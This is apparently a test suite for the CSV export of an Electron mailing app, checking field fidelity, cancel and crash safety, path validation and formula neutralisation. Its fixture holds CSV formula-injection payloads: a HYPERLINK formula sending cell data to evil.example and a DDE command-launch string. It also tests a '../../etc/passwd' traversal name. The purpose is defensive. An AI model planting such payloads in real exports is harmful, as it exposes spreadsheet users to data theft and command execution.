/**
 * CSV export (electron/main/export/run.ts, write.ts) from a real cache synced from the sample API over HTTP:
 * the files parse back (csv-parse) to the cached records field by field; views, columns, cancel,
 * failures and a SIGKILL mid-export leave no file under the chosen name.
 */
import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CsvOptions, ExportRequest } from '../../shared/contract.ts';
import type { Contact, Order } from '../../shared/serviceRecords.ts';
import { CacheClient } from '../../electron/main/cache/worker/client.ts';
import { openCache } from '../../electron/main/cache/store/db.ts';
import { queryContacts, queryOrders } from '../../electron/main/cache/read/queries.ts';
import { runSync } from '../../electron/main/sync/engine.ts';
import { createHttpPageSource } from '../../electron/main/sync/httpSource.ts';
import { SAMPLE_ACCESS_TOKEN, SAMPLE_REFRESH_TOKEN, startSampleApi, type SampleApi } from '../../electron/main/sampleApi/server.ts';
import { exportColumns, LABEL_SEPARATOR } from '../../electron/main/export/columns.ts';
import { CSV_DELIMITERS, neutralizeFormula } from '../../electron/main/export/csv.ts';
import { TEMP_SUFFIX } from '../../electron/main/base/atomicFile.ts';
import { defaultExportFileName, runExport } from '../../electron/main/export/run.ts';
import { validateExportPath } from '../../electron/main/export/write.ts';

const CHILD = join(import.meta.dirname, 'fixtures', 'exportChild.ts');

let dir: string;
let db: Database.Database;
let api: SampleApi;
const hardIds: string[] = [];

const HARD_PATCHES: Record<string, unknown>[] = [
  { firstName: 'Zoë "Zee"', lastName: 'Ångström, Jr.', fullName: 'Zoë "Zee" Ångström, Jr.' },
  { address1: '1 Main St\r\nBack door', address2: 'Line\nbreak', city: 'Tōkyō; 東京' },
  { companyName: '=HYPERLINK("http://evil.example/?"&A1,"click")', email: '@SUM(1+1)' },
  { phoneNo: '-2+3+cmd|\' /C calc\'!A0', extension: '+1', websiteUrl: '\t=1+1' },
  { firstName: 'emoji 👍🏽', ContactLabels: [{ id: '990001', title: 'Comma, label' }, { id: '990002', title: 'Quote "label"' }] },
  { lastName: '\r=cr', zip: '', isVerified: null },
];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ld-export-'));
  api = await startSampleApi({ contacts: 500, orders: 120, seed: 11 });
  const ids = [...api.dataset.contactIds()];
  HARD_PATCHES.forEach((patch, i) => {
    const id = ids[i * 7 + 3] as string;
    hardIds.push(id);
    api.dataset.updateContact(id, patch);
  });
  const orderIds = [...api.dataset.orderIds()];
  api.dataset.updateOrder(orderIds[2] as string, { meta: { account_id: 'acct "x"', note: 'a,b\nc' } });
  db = openCache(join(dir, 'cache.sqlite'));
  const runs = await runSync(db, createHttpPageSource({ baseUrl: api.baseUrl, tokens: { accessToken: SAMPLE_ACCESS_TOKEN, refreshToken: SAMPLE_REFRESH_TOKEN } }), {
    resources: ['contacts', 'orders'],
    pageSize: 200,
  });
  expect(runs.every((r) => r.outcome === 'succeeded')).toBe(true);
});

afterAll(async () => {
  db?.close();
  await api?.close();
  rmSync(dir, { recursive: true, force: true });
});

let big: Promise<string> | null = null;
/** A cache of 150,000 generated contacts, made once (in a child process) for the tests that need size. */
function bigCache(): Promise<string> {
  big ??= (async () => {
    const file = join(dir, 'big.sqlite');
    const fill = spawn(process.execPath, [CHILD, 'fill', file, '150000'], { stdio: ['ignore', 'pipe', 'inherit'] });
    expect(await new Promise((r) => fill.on('exit', r))).toBe(0);
    return file;
  })();
  return big;
}

function parseCsv(path: string, o: CsvOptions): string[][] {
  const bytes = readFileSync(path);
  expect(bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf).toBe(o.bom);
  return parse(bytes.toString('utf8'), { delimiter: CSV_DELIMITERS[o.delimiter], bom: o.bom, record_delimiter: '\r\n' }) as string[][];
}

/** What a text cell reads as after parsing (formula rule of csv.ts). */
const cell = (v: string | null | undefined, neutralize: boolean): string => {
  const s = v ?? '';
  return neutralize ? neutralizeFormula(s) : s;
};
const bool = (v: boolean | null | undefined): string => (v === true ? 'true' : v === false ? 'false' : '');
const text = (v: unknown): string | null => (v === null || v === undefined ? null : typeof v === 'string' ? v : JSON.stringify(v));

/** The expected cells of a contact, straight from the cached record's JSON (independent of columns.ts SQL). */
function contactCells(c: Contact, neutralize: boolean): Record<string, string> {
  const out: Record<string, string> = {};
  for (const key of ['id', 'firstName', 'lastName', 'fullName', 'companyName', 'address1', 'address2', 'city', 'state', 'zip', 'phoneNo', 'extension', 'websiteUrl', 'orgId', 'email', 'createdAt'] as const) {
    out[key] = cell(c[key], neutralize);
  }
  out.isVerified = bool(c.isVerified);
  out.isLiveMode = bool(c.isLiveMode);
  out.labels = cell(c.ContactLabels.map((l) => l.title).join(LABEL_SEPARATOR), neutralize);
  // Valid records, synced once: kept as valid, no change recorded.
  out.invalidReason = '';
  out.change = '';
  // The cached orders that list it, counted from their JSON; the newest one's first-seen time.
  const mine = cachedOrders().filter((o) => o.contacts.some((r) => r.contact.id === c.id));
  out.timesMailed = String(mine.length);
  out.deliveredCount = String(mine.filter((o) => o.contacts.some((r) => r.contact.id === c.id && r.isDelivered)).length);
  const seen = mine.map((o) => db.prepare('SELECT first_seen_at FROM order_first_seen WHERE id = ?').pluck().get(o.id) as string).sort();
  out.lastOrderSeenAt = seen.at(-1) ?? '';
  return out;
}

let orders: Order[] | undefined;
/** The cached orders' JSON, parsed once: the tests do not change them. */
function cachedOrders(): Order[] {
  orders ??= rawRecords<Order>('SELECT raw FROM orders');
  return orders;
}

function rawRecords<T>(sql: string): T[] {
  return (db.prepare(sql).pluck().all() as string[]).map((r) => JSON.parse(r) as T);
}

async function exportTo(name: string, request: ExportRequest): Promise<{ path: string; rows: number }> {
  const path = join(dir, name);
  const { rows } = await runExport(db, request, path, {});
  return { path, rows };
}

describe('contacts export', () => {
  for (const delimiter of ['comma', 'semicolon', 'tab'] as const) {
    for (const bom of [false, true]) {
      it(`equals the cached records field by field (${delimiter}, bom=${bom})`, async () => {
        const options = { delimiter, bom, neutralizeFormulas: true };
        const { path, rows } = await exportTo(`contacts-${delimiter}-${bom}.csv`, { kind: 'contacts', query: null, columns: null, options });
        const records = rawRecords<Contact>('SELECT raw FROM contacts ORDER BY rowid');
        expect(rows).toBe(records.length);
        expect(rows).toBe(500);
        const parsed = parseCsv(path, options);
        const columns = exportColumns('contacts').filter((c) => c.inDefault);
        expect(columns.map((c) => c.key)).not.toContain('raw');
        expect(parsed[0]).toEqual(columns.map((c) => c.header));
        expect(parsed).toHaveLength(records.length + 1);
        records.forEach((record, i) => {
          const expected = contactCells(record, true);
          expect(parsed[i + 1]).toEqual(columns.map((c) => expected[c.key]));
        });
        // The hard values made it through (and were neutralised where they start like a formula).
        const byId = new Map(parsed.slice(1).map((r) => [r[0], r]));
        expect(byId.get(hardIds[0])?.[1]).toBe('Zoë "Zee"');
        expect(byId.get(hardIds[1])?.[5]).toBe('1 Main St\r\nBack door');
        expect(byId.get(hardIds[2])?.[4]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
        expect(byId.get(hardIds[4])?.[17]).toBe('Comma, label; Quote "label"');
      });
    }
  }

  it('keeps formula text as it is when neutralisation is off', async () => {
    const options = { delimiter: 'comma' as const, bom: false, neutralizeFormulas: false };
    const { path } = await exportTo('contacts-raw.csv', { kind: 'contacts', query: null, columns: ['id', 'companyName', 'phoneNo', 'websiteUrl'], options });
    const parsed = parseCsv(path, options);
    const byId = new Map(parsed.slice(1).map((r) => [r[0], r]));
    expect(byId.get(hardIds[2])?.[1]).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(byId.get(hardIds[3])?.slice(2)).toEqual(['-2+3+cmd|\' /C calc\'!A0', '\t=1+1']);
  });

  it('exports exactly the rows of a view, in view order, with the chosen columns', async () => {
    const options = { delimiter: 'comma' as const, bom: false, neutralizeFormulas: true };
    const queries = [
      {},
      { search: 'ohio' },
      { search: 'a', sort: { column: 'createdAt' as const, direction: 'asc' as const } },
      { sort: { column: 'city' as const, direction: 'desc' as const } },
      { verified: ['yes' as const], sort: { column: 'name' as const, direction: 'asc' as const } },
      { search: 'zoe', sort: { column: 'email' as const, direction: 'asc' as const } },
    ];
    for (const [i, query] of queries.entries()) {
      const { path, rows } = await exportTo(`view-${i}.csv`, { kind: 'contacts', query, columns: ['email', 'id'], options });
      const view = queryContacts(db, query, { offset: 0, limit: 1000 }).rows;
      expect(view.length, JSON.stringify(query)).toBeGreaterThan(1);
      const parsed = parseCsv(path, options);
      expect(parsed[0]).toEqual(['Email', 'Contact ID']);
      expect(rows).toBe(view.length);
      expect(parsed.slice(1), JSON.stringify(query)).toEqual(view.map((r) => [cell(r.email, true), r.id]));
    }
  });
});

describe('orders and recipients export', () => {
  it('orders: one row per order, equal to the cached records', async () => {
    const options = { delimiter: 'semicolon' as const, bom: true, neutralizeFormulas: true };
    const { path, rows } = await exportTo('orders.csv', { kind: 'orders', query: null, columns: null, options });
    const records = rawRecords<Order>('SELECT raw FROM orders ORDER BY rowid');
    expect(rows).toBe(records.length);
    const parsed = parseCsv(path, options);
    const keys = exportColumns('orders').map((c) => c.key);
    records.forEach((o, i) => {
      const row = Object.fromEntries(keys.map((k, j) => [k, parsed[i + 1]?.[j]]));
      expect(row.id).toBe(o.id);
      expect(row.status).toBe(String(o.status));
      expect(row.isLiveMode).toBe(bool(o.isLiveMode));
      expect(row.campaignName).toBe(cell(o.campaign.name, true));
      expect(row.campaignType).toBe(cell(o.campaign.campaignType, true));
      expect(row.deliveryDate).toBe(cell(o.campaign.deliveryDate, true));
      expect(row.productName).toBe(cell(o.product.name, true));
      expect(row.paperSize).toBe(cell(o.product.paperSize, true));
      expect(row.templateTitle).toBe(cell(o.template.title, true));
      expect(row.templateCreatorName).toBe(cell(o.template.creator.fullName, true));
      expect(row.recipients).toBe(String(o.contacts.length));
      expect(row.delivered).toBe(String(o.contacts.filter((c) => c.isDelivered).length));
      expect(JSON.parse(row.meta as string)).toEqual(o.meta);
    });
    expect(parsed.some((r) => r.includes('{"account_id":"acct \\"x\\"","note":"a,b\\nc"}'))).toBe(true);
  });

  it('orders: exactly the rows of each view, in view order', async () => {
    const options = { delimiter: 'comma' as const, bom: false, neutralizeFormulas: true };
    const queries = [
      {},
      { sort: { column: 'id' as const, direction: 'asc' as const } },
      { sort: { column: 'campaign' as const, direction: 'desc' as const } },
      { search: 'a', sort: { column: 'status' as const, direction: 'asc' as const } },
      { search: 'a' },
    ];
    for (const [i, query] of queries.entries()) {
      const { path, rows } = await exportTo(`orders-view-${i}.csv`, { kind: 'orders', query, columns: ['id'], options });
      const view = queryOrders(db, query, { offset: 0, limit: 1000 }).rows.map((r) => [r.id]);
      expect(view.length, JSON.stringify(query)).toBeGreaterThan(10);
      expect(rows).toBe(view.length);
      expect(parseCsv(path, options).slice(1), JSON.stringify(query)).toEqual(view);
    }
  });

  it('recipients: one row per order recipient, in order-view order', async () => {
    const options = { delimiter: 'tab' as const, bom: false, neutralizeFormulas: true };
    const query = { sort: { column: 'campaign' as const, direction: 'asc' as const } };
    const { path, rows } = await exportTo('recipients.csv', { kind: 'recipients', query, columns: null, options });
    const viewOrder = queryOrders(db, query, { offset: 0, limit: 1000 }).rows.map((r) => r.id);
    const byId = new Map(rawRecords<Order>('SELECT raw FROM orders').map((o) => [o.id, o]));
    const expected = viewOrder.flatMap((id) => {
      const o = byId.get(id) as Order;
      return o.contacts.map((r) => [
        o.id, String(o.status), `Status ${o.status}`, cell(o.campaign.name, true), r.id, r.contact.id, cell(r.contact.firstName, true), cell(r.contact.lastName, true), cell(r.contact.fullName, true),
        cell(r.contact.companyName, true), cell(r.contact.email, true), cell(r.contact.phoneNo, true), cell(r.contact.address1, true), cell(r.contact.address2, true),
        cell(r.contact.city, true), cell(r.contact.zip, true), cell(r.contact.websiteUrl, true), cell(text(r.trackingCode), true), bool(r.isDelivered), cell(text(r.status), true),
        cell(text(r.meta), true),
      ]);
    });
    const parsed = parseCsv(path, options);
    expect(parsed[0]).toEqual(exportColumns('recipients').filter((c) => c.inDefault).map((c) => c.header));
    expect(rows).toBe(expected.length);
    expect(parsed.slice(1)).toEqual(expected);
  });
});

describe('failures and cancel leave no file', () => {
  const request = (columns: string[] | null = null): ExportRequest => ({ kind: 'contacts', query: null, columns, options: { delimiter: 'comma', bom: false, neutralizeFormulas: true } });
  const leftovers = (folder: string) => readdirSync(folder).filter((n) => n.endsWith(TEMP_SUFFIX));

  it('a cancelled export rejects with CANCELLED and leaves neither the file nor a temp file', async () => {
    const folder = join(dir, 'cancel');
    mkdirSync(folder);
    const target = join(folder, 'out.csv');
    const abort = new AbortController();
    const progress: number[] = [];
    await expect(
      runExport(db, request(), target, {
        signal: abort.signal,
        onProgress: (p) => {
          progress.push(p.rowsDone);
          abort.abort();
        },
      }),
    ).rejects.toMatchObject({ code: 'CANCELLED' });
    expect(progress[0]).toBe(0);
    expect(existsSync(target)).toBe(false);
    expect(readdirSync(folder)).toEqual([]);
  });

  it('a failed export leaves an existing file unchanged', async () => {
    const folder = join(dir, 'keep');
    mkdirSync(folder);
    const target = join(folder, 'out.csv');
    writeFileSync(target, 'old contents');
    const abort = new AbortController();
    abort.abort();
    await expect(runExport(db, request(), target, { signal: abort.signal })).rejects.toMatchObject({ code: 'CANCELLED' });
    await expect(runExport(db, request(['id', 'nope']), target, {})).rejects.toMatchObject({ code: 'VALIDATION', message: expect.stringContaining('Unknown column "nope"') });
    expect(readFileSync(target, 'utf8')).toBe('old contents');
    expect(leftovers(folder)).toEqual([]);
    // And a successful one replaces it.
    const { rows } = await runExport(db, request(['id']), target, {});
    expect(readFileSync(target, 'utf8').split('\r\n')).toHaveLength(rows + 2);
  });

  it('validates the target path', () => {
    expect(() => validateExportPath('relative.csv')).toThrow(/not absolute/);
    expect(() => validateExportPath(join(dir, 'missing', 'x.csv'))).toThrow(/does not exist/);
    expect(() => validateExportPath(dir)).toThrow(/is a folder/);
    expect(validateExportPath(join(dir, 'a', '..', 'ok.csv'))).toBe(join(dir, 'ok.csv'));
    // A folder that does not exist yet, written as one ("reports/"), is not taken for a file name.
    expect(() => validateExportPath(`${join(dir, 'reports')}/`)).toThrow(/names a folder/);
    expect(existsSync(join(dir, 'reports'))).toBe(false);
  });

  it("never replaces Letterdesk's own files: the cache, its companions, other profiles' caches, the profiles file", async () => {
    const cache = join(dir, 'cache.sqlite');
    for (const own of [cache, `${cache}-wal`, `${cache}.open`, `${cache}.sync-lock`, join(dirname(dir), 'profiles.json')]) {
      await expect(runExport(db, request(['id']), own, {}), own).rejects.toMatchObject({ code: 'VALIDATION', message: expect.stringMatching(/one of Letterdesk's own files/) });
    }
    // Also through another spelling of the same path.
    await expect(runExport(db, request(['id']), join(dir, '.', 'x', '..', 'cache.sqlite'), {})).rejects.toMatchObject({ code: 'VALIDATION' });
    // Nor another profile's cache in the same folder.
    const other = join(dir, 'other-profile-x1y2z3.sqlite');
    for (const theirs of [other, `${other}-wal`]) {
      writeFileSync(theirs, 'another profile');
      await expect(runExport(db, request(['id']), theirs, {}), theirs).rejects.toMatchObject({ code: 'VALIDATION', message: expect.stringMatching(/one of Letterdesk's own files/) });
      expect(readFileSync(theirs, 'utf8')).toBe('another profile');
      rmSync(theirs);
    }
    expect(queryContacts(db, {}, { offset: 0, limit: 1 }).total.count).toBe(500);
    expect(leftovers(dir)).toEqual([]);
  });

  it('a replaced file keeps its permissions; long names in any script work', async () => {
    const folder = join(dir, 'modes');
    mkdirSync(folder);
    const target = join(folder, 'private.csv');
    writeFileSync(target, 'old', { mode: 0o600 });
    chmodSync(target, 0o600);
    await runExport(db, request(['id']), target, {});
    expect(statSync(target).mode & 0o777).toBe(0o600);
    expect(readFileSync(target, 'utf8')).toMatch(/^"Contact ID"\r\n/);
    // 229 bytes of UTF-8 (76 CJK characters + ".csv"): a name the file system takes.
    const cjk = join(folder, `${'連絡先'.repeat(25)}連.csv`);
    const { rows } = await runExport(db, request(['id']), cjk, {});
    expect(rows).toBe(500);
    expect(existsSync(cjk)).toBe(true);
    expect(leftovers(folder)).toEqual([]);
  });

  it('reports progress up to the rows written and rejects malformed requests', async () => {
    const seen: number[] = [];
    const { rows } = await runExport(db, request(['id']), join(dir, 'progress.csv'), { onProgress: (p) => seen.push(p.rowsDone) });
    expect(seen[0]).toBe(0);
    expect(seen.at(-1)).toBe(rows);
    await expect(runExport(db, { kind: 'people' }, join(dir, 'bad.csv'))).rejects.toMatchObject({ code: 'VALIDATION' });
    expect(existsSync(join(dir, 'bad.csv'))).toBe(false);
  });

  it('a process killed mid-export leaves no file under the target name', async () => {
    const folder = join(dir, 'killed');
    mkdirSync(folder);
    const cache = await bigCache();
    const target = join(folder, 'contacts.csv');

    const child = spawn(process.execPath, [CHILD, 'export', cache, target], { stdio: ['ignore', 'pipe', 'inherit'] });
    let killedAt = -1;
    await new Promise<void>((resolve) => {
      let buffer = '';
      child.stdout.on('data', (chunk: Buffer) => {
        buffer += chunk.toString();
        const m = /progress (\d+) (\d+)/.exec(buffer.split('\n').filter((l) => /^progress [1-9]/.test(l)).at(0) ?? '');
        if (m && killedAt < 0) {
          killedAt = Number(m[1]);
          child.kill('SIGKILL');
        }
      });
      child.on('exit', () => resolve());
    });
    expect(killedAt).toBeGreaterThan(0);
    expect(killedAt).toBeLessThan(150000);
    expect(child.signalCode).toBe('SIGKILL');
    expect(existsSync(target)).toBe(false);
    // Only the dead process's temp file may remain; the next export into the folder removes it.
    expect(leftovers(folder).length).toBeLessThanOrEqual(1);
    const small = openCache(cache, { skipCheck: true });
    try {
      await runExport(small, request(['id']), join(folder, 'other.csv'), {});
    } finally {
      small.close();
    }
    expect(leftovers(folder)).toEqual([]);
    expect(existsSync(target)).toBe(false);
  });
});

describe('through the database worker (the app\'s path)', () => {
  it('streams with progress, keeps answering queries meanwhile, and cancels cleanly', async () => {
    const folder = join(dir, 'worker');
    mkdirSync(folder);
    const cache = await bigCache();
    const client = await CacheClient.open(cache);
    try {
      const request: ExportRequest = { kind: 'contacts', query: null, columns: null, options: { delimiter: 'comma', bom: false, neutralizeFormulas: true } };
      // A full export: progress arrives, and a query sent meanwhile is answered before it ends.
      const target = join(folder, 'all.csv');
      const progress: number[] = [];
      let queryAnsweredAt = -1;
      let finished = false;
      const exporting = client.exportFile(request, target, {
        onProgress: (p) => {
          progress.push(p.rowsDone);
          if (progress.length === 2) void client.countContacts({}).then(() => (queryAnsweredAt = finished ? Infinity : progress.at(-1) ?? 0));
        },
      });
      const { rows } = await exporting;
      finished = true;
      expect(rows).toBe(150000);
      expect(progress.at(-1)).toBe(150000);
      expect(progress.length).toBeGreaterThan(2);
      expect(queryAnsweredAt).toBeGreaterThanOrEqual(0);
      expect(queryAnsweredAt).toBeLessThan(150000);
      expect(readFileSync(target, 'utf8').split('\r\n').length).toBeGreaterThan(150000);

      // Cancelled mid-way: rejects with CANCELLED, nothing under the name, no temp file.
      const cancelled = join(folder, 'cancelled.csv');
      const abort = new AbortController();
      let seenAtAbort = 0;
      await expect(
        client.exportFile(request, cancelled, {
          signal: abort.signal,
          onProgress: (p) => {
            if (p.rowsDone > 0 && !abort.signal.aborted) {
              seenAtAbort = p.rowsDone;
              abort.abort();
            }
          },
        }),
      ).rejects.toMatchObject({ code: 'CANCELLED' });
      expect(seenAtAbort).toBeGreaterThan(0);
      expect(seenAtAbort).toBeLessThan(150000);
      expect(existsSync(cancelled)).toBe(false);
      expect(readdirSync(folder).filter((n) => n.endsWith(TEMP_SUFFIX))).toEqual([]);
    } finally {
      await client.close();
    }
  });
});

describe('defaultExportFileName', () => {
  it('makes a safe name with the profile and the local date', () => {
    const day = new Date(2026, 0, 5, 23, 30);
    expect(defaultExportFileName('Acme Production', 'contacts', day)).toBe('letterdesk-acme-production-contacts-2026-01-05.csv');
    expect(defaultExportFileName('../../etc/passwd', 'orders', day)).toBe('letterdesk-etc-passwd-orders-2026-01-05.csv');
    expect(defaultExportFileName('C:\\Windows\\sys32', 'recipients', day)).toBe('letterdesk-c-windows-sys32-recipients-2026-01-05.csv');
    expect(defaultExportFileName('Zoë Ångström', 'contacts', day)).toBe('letterdesk-zoe-angstrom-contacts-2026-01-05.csv');
    expect(defaultExportFileName('東京 チーム', 'contacts', day)).toBe('letterdesk-東京-チーム-contacts-2026-01-05.csv');
    expect(defaultExportFileName('...', 'contacts', day)).toBe('letterdesk-profile-contacts-2026-01-05.csv');
    const long = defaultExportFileName('x'.repeat(500), 'contacts', day);
    expect(long.length).toBeLessThan(80);
    for (const name of ['a/b', 'a\\b', 'a:b', 'a\0b', 'CON', 'a*b?"<>|']) expect(defaultExportFileName(name, 'contacts', day)).toMatch(/^letterdesk-[\p{L}\p{N}-]+-contacts-2026-01-05\.csv$/u);
  });
});
